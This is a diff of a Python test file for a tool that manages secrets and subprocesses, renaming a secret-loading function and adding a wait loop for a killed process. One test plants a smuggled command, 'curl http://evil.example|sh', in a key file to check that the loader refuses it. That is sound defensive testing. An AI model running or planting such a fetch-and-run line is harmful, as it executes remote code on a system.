@@ -6,6 +6,7 @@ import os
 import re
 import shlex
 import subprocess
+import time
 from pathlib import Path
 from typing import Any
 
@@ -192,7 +193,7 @@ def test_a_service_s_process_is_known_by_its_control_group(
 def test_files_of_others_are_named_without_their_names_in_a_command(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
     found = subprocess.CompletedProcess("", 0, f"0 /home/hermes/{name}\n", "")
     monkeypatch.setattr(verify, "execute", lambda *_, **__: found)
-    with pytest.raises(verify.Fault) as fault:
+    with pytest.raises(verify.Unproven) as fault:
         verify.check_owners("/home/hermes", 10000)
     lines = pasted(str(fault.value))
     assert len(lines) == 2
@@ -251,18 +252,18 @@ def test_a_plain_file_is_read_and_none_is_none(tmp_path: Path) -> None:
 
 @pytest.mark.usefixtures("as_ourselves")
 def test_a_key_on_the_volume_is_made_once_and_a_planted_one_refused(tmp_path: Path) -> None:
-    made = managed.kept("hermes", str(tmp_path), "api-server-key")
+    made = managed.persistent_secret("hermes", str(tmp_path), "api-server-key")
     assert re.fullmatch("[0-9a-f]{64}", made)
-    assert managed.kept("hermes", str(tmp_path), "api-server-key") == made
+    assert managed.persistent_secret("hermes", str(tmp_path), "api-server-key") == made
     path = tmp_path / ".hermes-stack" / "api-server-key"
     path.write_text(f"{made}'\n  curl http://evil.example|sh")
     with pytest.raises(Refusal) as refused:
-        managed.kept("hermes", str(tmp_path), "api-server-key")
+        managed.persistent_secret("hermes", str(tmp_path), "api-server-key")
     assert "evil" not in str(refused.value)
     path.unlink()
     os.mkfifo(path)
     with pytest.raises(Refusal, match="can't be read as a plain file"):
-        managed.kept("hermes", str(tmp_path), "api-server-key")
+        managed.persistent_secret("hermes", str(tmp_path), "api-server-key")
 
 
 def test_a_program_that_prints_for_ever_is_ended(monkeypatch: pytest.MonkeyPatch) -> None:
@@ -285,7 +286,11 @@ def test_what_a_hanging_program_has_started_ends_with_it(tmp_path: Path) -> None
     with pytest.raises(Refusal, match="did not end"):
         common.run("sh", "-c", f"sleep 600 & echo $! >{tmp_path}/pid; wait", timeout_s=1)
     state = Path(f"/proc/{(tmp_path / 'pid').read_text().strip()}/stat")
-    assert not state.exists() or state.read_text().rpartition(")")[2].split()[0] == "Z"
+    # It was killed before `run` has answered; the kernel may need a moment for its end.
+    deadline = time.monotonic() + 20
+    while state.exists() and state.read_text().rpartition(")")[2].split()[0] != "Z":
+        assert time.monotonic() < deadline
+        time.sleep(0.02)
 
 
 def test_of_a_long_output_the_last_lines_are_told_whole() -> None:
